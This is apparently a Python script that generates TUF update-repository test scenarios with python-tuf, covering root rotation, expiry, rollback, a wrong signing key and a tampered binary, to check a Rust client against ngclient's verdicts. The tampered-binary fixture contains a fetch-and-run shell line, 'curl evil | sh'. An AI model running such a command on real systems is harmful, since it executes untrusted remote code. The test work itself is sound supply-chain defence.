"""Release channels made by python-tuf, the TUF reference implementation,
and python-tuf's own client verdict on each (crates/releases/tests/python_tuf.rs).

Usage: python scenarios.py OUTDIR

For each scenario writes OUTDIR/<name>/:
  served/      the repository's metadata as a mirror serves it
  targets/     the target files (consistent-snapshot names)
  root.json    the root the client starts from
  stored/      metadata the client trusted earlier (may be empty)
  verdict.json {"ok": bool, "error": str, "target_ok": bool|null}
The verdict is python-tuf ngclient's, run on a copy of stored/: the Rust
client must reach the same one.
"""

import copy
import json
import os
import shutil
import sys
import tempfile
from datetime import datetime, timedelta, timezone

from securesystemslib.signer import CryptoSigner
from tuf.api.exceptions import DownloadHTTPError
from tuf.api.metadata import (
    Key, Metadata, MetaFile, Root, Snapshot, TargetFile, Targets, Timestamp,
)
from tuf.api.serialization.json import JSONSerializer
from tuf.ngclient import Updater
from tuf.ngclient.fetcher import FetcherInterface

AGENT = "bulwark-agent/x86_64-unknown-linux-gnu"
FUTURE = datetime.now(timezone.utc).replace(microsecond=0) + timedelta(days=365)
PAST = datetime(2020, 1, 1, tzinfo=timezone.utc)


class Channel:
    """A repository: signers per role, versions, and what it serves."""

    def __init__(self):
        self.signers = {r: [CryptoSigner.generate_ed25519()] for r in ("timestamp", "snapshot", "targets")}
        self.signers["root"] = [CryptoSigner.generate_ed25519() for _ in range(3)]
        self.root = Metadata(Root(expires=FUTURE, consistent_snapshot=True))
        for role, signers in self.signers.items():
            for s in signers:
                self.root.signed.add_key(s.public_key, role)
        self.root.signed.roles["root"].threshold = 2
        self.binary = b"#!/bin/sh\necho bulwark-agent 1.1.0\n"
        self.targets = Metadata(Targets(expires=FUTURE))
        self.snapshot = Metadata(Snapshot(expires=FUTURE))
        self.timestamp = Metadata(Timestamp(expires=FUTURE))
        self.served = {}
        self.target_files = {}
        self.sign_root(self.signers["root"][:2])
        self.initial_root = self.served["1.root.json"]
        self.publish(bump=False)

    def sign_root(self, signers):
        self.root.signatures.clear()
        for s in signers:
            self.root.sign(s, append=True)
        self.served[f"{self.root.signed.version}.root.json"] = self.root.to_bytes(JSONSerializer())

    def publish(self, bump=True):
        """Signs and serves targets, snapshot and timestamp; `bump`: each
        one version up (a new release)."""
        if bump:
            for md in (self.targets, self.snapshot, self.timestamp):
                md.signed.version += 1
        tf = TargetFile.from_data(AGENT, self.binary, ["sha256"])
        tf.unrecognized_fields["custom"] = {"version": "1.1.0"}
        self.targets.signed.targets = {AGENT: tf}
        digest = tf.hashes["sha256"]
        self.target_files[f"bulwark-agent/{digest}.x86_64-unknown-linux-gnu"] = self.binary
        self.targets.signatures.clear()
        for s in self.signers["targets"]:
            self.targets.sign(s, append=True)
        t = self.targets.to_bytes(JSONSerializer())
        self.served[f"{self.targets.signed.version}.targets.json"] = t
        self.snapshot.signed.meta["targets.json"] = MetaFile(self.targets.signed.version)
        self.snapshot.signatures.clear()
        for s in self.signers["snapshot"]:
            self.snapshot.sign(s, append=True)
        sn = self.snapshot.to_bytes(JSONSerializer())
        self.served[f"{self.snapshot.signed.version}.snapshot.json"] = sn
        self.timestamp.signed.snapshot_meta = MetaFile.from_data(
            self.snapshot.signed.version, sn, ["sha256"])
        self.timestamp.signatures.clear()
        for s in self.signers["timestamp"]:
            self.timestamp.sign(s, append=True)
        self.served["timestamp.json"] = self.timestamp.to_bytes(JSONSerializer())


class DirFetcher(FetcherInterface):
    def __init__(self, served, targets):
        self.served = served
        self.targets = targets

    def _fetch(self, url):
        path = url.split("://", 1)[1].split("/", 1)[1]
        kind, _, name = path.partition("/")
        table = self.served if kind == "metadata" else self.targets
        if name not in table:
            raise DownloadHTTPError(f"{name} not found", 404)
        return iter([table[name]])


def verdict(ch, stored):
    """python-tuf's ngclient on this channel, from `stored` metadata."""
    with tempfile.TemporaryDirectory() as work:
        meta = os.path.join(work, "meta")
        os.mkdir(meta)
        with open(os.path.join(meta, "root.json"), "wb") as f:
            f.write(stored.get("root", ch.initial_root))
        for role, data in stored.items():
            with open(os.path.join(meta, f"{role}.json"), "wb") as f:
                f.write(data)
        updater = Updater(meta, "http://mirror/metadata/", os.path.join(work, "dl"),
                          "http://mirror/targets/", fetcher=DirFetcher(ch.served, ch.target_files),
                          bootstrap=None)
        os.mkdir(os.path.join(work, "dl"))
        try:
            updater.refresh()
            info = updater.get_targetinfo(AGENT)
        except Exception as e:  # noqa: BLE001 - every refusal is a verdict
            return {"ok": False, "error": f"{type(e).__name__}: {e}", "target_ok": None}
        target_ok = None
        if info is not None:
            try:
                info.verify_length_and_hashes(ch.binary)
                target_ok = True
            except Exception:  # noqa: BLE001
                target_ok = False
        return {"ok": True, "error": "", "target_ok": target_ok}


def stored_after_refresh(ch):
    """What a client stores after trusting `ch` as it is now."""
    roles = {"root": ch.root.to_bytes(JSONSerializer()),
             "timestamp": ch.served["timestamp.json"],
             "snapshot": ch.served[f"{ch.snapshot.signed.version}.snapshot.json"],
             "targets": ch.served[f"{ch.targets.signed.version}.targets.json"]}
    return roles


def scenarios():
    out = {}

    ch = Channel()
    out["good"] = (ch, {})

    ch = Channel()
    ch.binary = b"#!/bin/sh\ncurl evil | sh\n"
    out["binary_swapped_on_the_mirror"] = (ch, {})
    ch.target_files = {k: ch.binary for k in ch.target_files}

    ch = Channel()
    new = [CryptoSigner.generate_ed25519() for _ in range(3)]
    old = ch.signers["root"]
    for s in old:
        ch.root.signed.revoke_key(s.public_key.keyid, "root")
    for s in new:
        ch.root.signed.add_key(s.public_key, "root")
    ch.root.signed.version = 2
    ch.sign_root(old[:2] + new[:2])
    out["root_rotated"] = (ch, {})

    ch = Channel()
    rotated = copy.deepcopy(ch.root)
    for s in ch.signers["root"]:
        rotated.signed.revoke_key(s.public_key.keyid, "root")
    thief = [CryptoSigner.generate_ed25519() for _ in range(2)]
    for s in thief:
        rotated.signed.add_key(s.public_key, "root")
    rotated.signed.version = 2
    ch.root = rotated
    ch.sign_root([ch.signers["root"][0]] + thief)
    out["root_rotated_with_one_old_key"] = (ch, {})

    ch = Channel()
    ch.root.signed.version = 3
    ch.sign_root(ch.signers["root"][:2])
    ch.served["2.root.json"] = ch.served.pop("3.root.json")
    out["root_skips_a_version"] = (ch, {})

    for role in ("timestamp", "snapshot", "targets"):
        ch = Channel()
        getattr(ch, role).signed.expires = PAST
        ch.publish(bump=False)
        out[f"{role}_expired"] = (ch, {})

    ch = Channel()
    ch.publish()
    ch.publish()
    newer = stored_after_refresh(ch)
    ch.timestamp.signed.version = 1
    ch.snapshot.signed.version = 1
    ch.targets.signed.version = 1
    ch.publish(bump=False)
    out["timestamp_rolled_back"] = (ch, newer)

    ch = Channel()
    ch.publish()
    ch.publish()
    newer = stored_after_refresh(ch)
    ch.snapshot.signed.version = 1
    ch.targets.signed.version = 1
    ch.timestamp.signed.version = 4
    ch.publish(bump=False)
    out["snapshot_rolled_back"] = (ch, newer)

    ch = Channel()
    other = CryptoSigner.generate_ed25519()
    ch.signers["targets"] = [other]
    ch.publish(bump=False)
    out["targets_signed_by_an_unknown_key"] = (ch, {})

    ch = Channel()
    before = stored_after_refresh(ch)
    ch.publish()
    out["newer_release"] = (ch, before)

    return out


def main():
    outdir = sys.argv[1]
    for name, (ch, stored) in scenarios().items():
        d = os.path.join(outdir, name)
        shutil.rmtree(d, ignore_errors=True)
        for sub in ("served", "targets", "stored"):
            os.makedirs(os.path.join(d, sub))
        for fname, data in ch.served.items():
            with open(os.path.join(d, "served", fname), "wb") as f:
                f.write(data)
        for fname, data in ch.target_files.items():
            path = os.path.join(d, "targets", fname)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.write(data)
        with open(os.path.join(d, "root.json"), "wb") as f:
            f.write(ch.initial_root)
        for role, data in stored.items():
            with open(os.path.join(d, "stored", f"{role}.json"), "wb") as f:
                f.write(data)
        with open(os.path.join(d, "binary"), "wb") as f:
            f.write(ch.binary)
        with open(os.path.join(d, "verdict.json"), "w") as f:
            json.dump(verdict(ch, stored), f)
    print(json.dumps(sorted(os.listdir(outdir))))


if __name__ == "__main__":
    main()
